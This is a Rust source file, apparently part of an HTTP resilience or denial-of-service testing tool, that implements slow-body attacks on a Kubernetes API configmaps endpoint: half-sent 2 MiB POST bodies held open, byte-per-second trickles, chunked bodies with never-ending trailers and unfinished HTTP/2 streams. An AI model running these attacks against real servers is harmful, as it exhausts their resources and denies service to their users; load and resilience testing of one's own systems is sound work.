//! Bodies that never end.

use std::time::{Duration, Instant};

use anyhow::{Result, ensure};
use tokio::{
    io::AsyncWriteExt,
    task::JoinSet,
    time::{sleep, timeout},
};

use crate::{
    attack::{
        ground::{Target, open_many},
        options::Size,
        raw::{Raw, Reads},
        report::Told,
    },
    http::{Io, Listener, Protocol},
};

/// What a body announces, bytes.
const ANNOUNCED: usize = 2 << 20;
/// What is sent of it.
const SENT: usize = ANNOUNCED - (64 << 10);
/// Half bodies on streams.
const STREAMS: Size = Size(400, 1000);
/// On one connection.
const STREAMS_PER_CONNECTION: usize = 200;
/// Slow bodies of each kind.
const SLOW: usize = 50;
/// What one stream is sent in its turn.
const TURN: usize = 64 << 10;
/// How long a write may wait for a server that does not read it.
const WRITE: Duration = Duration::from_secs(2);
const PATH: &str = "/api/v1/namespaces/default/configmaps";
/// How a body begins; the rest are letters of one string.
const BEGINNING: &[u8] = br#"{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"half"},"data":{"k":""#;

fn body() -> Vec<u8> {
    let mut body = BEGINNING.to_vec();
    body.resize(SENT, b'x');
    body
}

/// Streams whose bodies are sent as far as the server takes them, and then held.
pub(super) async fn half(target: &Target, told: &mut Told) {
    let (count, end, body) = (target.sizes.of(STREAMS), Instant::now() + target.time, body());
    let (listener, length) = (target.plain.clone(), ANNOUNCED.to_string());
    let (connections, unopened) = open_many(count / STREAMS_PER_CONNECTION, end, |nth| {
        let listener = listener.clone();
        async move { Raw::open(&listener, nth, 65_535, Reads::Everything).await }
    })
    .await;
    let (mut sent, mut bodies) = (0, Vec::new());
    for raw in &connections {
        let mut out = Vec::new();
        let headers = [("content-type", "application/json"), ("content-length", &*length)];
        bodies.extend((0..STREAMS_PER_CONNECTION).map(|_| (raw, raw.request(&mut out, "POST", PATH, &headers, false), 0)));
        let _refused_is_seen_below = raw.send(&out).await;
    }
    while Instant::now() < end {
        let mut moved = 0;
        for (raw, stream, at) in &mut bodies {
            if raw.seen().is_gone() || *at == body.len() || Instant::now() > end {
                continue;
            }
            let taken = raw.data(*stream, &body[*at..(*at + TURN).min(body.len())]).await.unwrap_or(0);
            *at += taken;
            moved += taken;
        }
        sent += moved;
        if moved == 0 {
            sleep(Duration::from_millis(20)).await;
        }
    }
    told.note("bodies", bodies.len());
    told.note("sent_mib", sent >> 20);
    told.note("refused", connections.iter().map(|raw| raw.refused() + raw.resets()).sum::<usize>());
    told.note("gone", unopened + connections.iter().filter(|raw| raw.seen().is_gone()).count());
}

/// A few half bodies, each on a connection of its own.
pub(super) async fn few_connections(target: &Target, count: usize, told: &mut Told) {
    let end = Instant::now() + target.time;
    let held = half_connections(target, count).await;
    told.note("bodies", held.len());
    sleep(end.saturating_duration_since(Instant::now())).await;
}

/// Connections with half a body each.
pub(super) async fn half_connections(target: &Target, count: usize) -> Vec<Io> {
    let (listener, body) = (target.plain.clone(), body());
    let (held, _) = open_many(count, Instant::now() + target.time, |nth| {
        let (listener, body) = (listener.clone(), body.clone());
        async move {
            let mut io = begun(&listener, nth, &format!("Content-Length: {ANNOUNCED}")).await?;
            // A server that does not take it is not held up by it.
            let _untaken = timeout(WRITE, io.write_all(&body)).await;
            Ok(io)
        }
    })
    .await;
    held
}

/// A connection on which a request's head was sent.
async fn begun(listener: &Listener, nth: usize, length: &str) -> Result<Io> {
    let mut io = listener.reach(nth, Protocol::Http1).await?;
    let token = listener.token().map(|t| format!("Authorization: Bearer {t}\r\n")).unwrap_or_default();
    let head =
        format!("POST {PATH} HTTP/1.1\r\nHost: {}\r\n{token}Content-Type: application/json\r\n{length}\r\n\r\n", listener.authority());
    io.write_all(head.as_bytes()).await?;
    Ok(io)
}

/// Bodies of a byte a second; chunked bodies whose trailers are; streams that were sent everything but their end.
pub(super) async fn slow(target: &Target, told: &mut Told) {
    let end = Instant::now() + target.time;
    let mut trickles = JoinSet::new();
    for nth in 0..SLOW * 2 {
        let listener = target.plain.clone();
        trickles.spawn(async move {
            let length = format!("Content-Length: {ANNOUNCED}");
            let length = if nth < SLOW { &*length } else { "Transfer-Encoding: chunked\r\nTrailer: X-Late" };
            let mut io = begun(&listener, nth, length).await?;
            if nth >= SLOW {
                let whole = [BEGINNING, br#""}}"#].concat();
                io.write_all(format!("{:x}\r\n", whole.len()).as_bytes()).await?;
                io.write_all(&whole).await?;
                io.write_all(b"\r\n0\r\nX-Late: ").await?;
            }
            while Instant::now() < end {
                io.write_all(b"x").await?;
                sleep(Duration::from_secs(1)).await;
            }
            anyhow::Ok(())
        });
    }
    let raw = Raw::open(&target.plain, 0, 65_535, Reads::Everything).await;
    if let Ok(raw) = &raw {
        for _ in 0..SLOW {
            let mut out = Vec::new();
            let stream = raw.request(&mut out, "POST", PATH, &[("content-type", "application/json"), ("trailer", "x-late")], false);
            let _refused_is_no_harm = async {
                raw.send(&out).await?;
                ensure!(raw.data(stream, &[BEGINNING, br#""}}"#].concat()).await? > 0, "no window");
                Ok(())
            }
            .await;
        }
    }
    sleep(end.saturating_duration_since(Instant::now())).await;
    told.note("bodies", SLOW * 3);
    let mut ended = 0;
    while let Some(one) = trickles.try_join_next() {
        ended += usize::from(!matches!(one, Ok(Ok(()))));
    }
    told.note("closed", ended);
}
